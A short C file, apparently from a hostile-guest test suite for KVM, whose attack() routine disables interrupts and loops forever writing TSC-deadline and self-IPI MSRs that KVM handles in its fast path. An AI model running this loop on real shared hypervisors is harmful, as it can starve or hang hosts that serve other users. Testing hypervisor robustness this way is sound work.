/* SPDX-License-Identifier: GPL-2.0-or-later */
/* With interrupts disabled, writes MSRs that KVM handles without leaving its innermost loop. */
#include "hostile.h"

#define TSC_DEADLINE 0x6e0
#define TIMER_TSC_DEADLINE (2 << 17)

void attack(void)
{
    disable_interrupts();
    write_msr(X2APIC(APIC_LVT_TIMER), TIMER_TSC_DEADLINE | 0x50);
    for (;;) {
        write_msr(TSC_DEADLINE, ~0ull >> 1);
        write_msr(X2APIC(APIC_SELF_IPI), 0x50);
        end_of_interrupt();
    }
}
